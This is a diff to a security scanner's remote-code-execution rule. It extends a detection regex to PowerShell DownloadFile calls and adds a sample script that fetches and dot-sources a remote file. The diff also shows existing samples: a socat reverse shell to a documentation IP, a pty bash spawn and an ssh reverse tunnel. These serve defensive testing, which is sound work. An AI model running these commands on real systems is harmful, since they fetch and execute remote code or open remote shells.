@@ -101,7 +101,7 @@ export const s001RemoteCodeExecution: ScanRule = {
       keywords: DOWNLOADER_KEYWORDS,
       scope: 'unit',
       re: new RegExp(
-        String.raw`${DOWNLOADER}${IN_COMMAND}\s(?:-[a-zA-Z]{0,6}[oO][a-zA-Z]{0,6}|--output|--output-document|--remote-name(?:-all)?|-OutFile)(?=[\s=])[^;&|\n]{0,300}|\bwget\b[^;&|\n]{0,200}?\b(?:https?|ftp):\/\/\S{1,300}|${DOWNLOADER}[^;&|\n]{0,300}?\s>\s{0,4}\S{1,200}`,
+        String.raw`${DOWNLOADER}${IN_COMMAND}\s(?:-[a-zA-Z]{0,6}[oO][a-zA-Z]{0,6}|--output|--output-document|--remote-name(?:-all)?|-OutFile)(?=[\s=])[^;&|\n]{0,300}|\bwget\b[^;&|\n]{0,200}?\b(?:https?|ftp):\/\/\S{1,300}|${DOWNLOADER}[^;&|\n]{0,300}?\s>\s{0,4}\S{1,200}|\.DownloadFile(?:Async)?\s{0,4}\([^)\n]{1,400}\)`,
         'i',
       ),
       accept: runsDownloadedFile,
@@ -267,6 +267,11 @@ export const s001RemoteCodeExecution: ScanRule = {
       },
       // Each exercises a detector no other example does (test/scan/rule-examples.test.ts: every detector fires somewhere).
       'socat TCP:198.51.100.4:4444 EXEC:/bin/bash,pty,stderr,setsid',
+      {
+        path: 'scripts/setup.ps1',
+        text: '$h = Join-Path $env:TEMP "h.ps1"\n(New-Object Net.WebClient).DownloadFile("https://dl.tools.example/h.ps1", $h)\n. $h\n',
+        level: 'HIGH',
+      },
       { path: 'scripts/tty.py', text: 'import pty\npty.spawn("/bin/bash")\n' },
       'ssh -N -R 0:localhost:22 relay@tunnel.pairing-hub.example',
       {
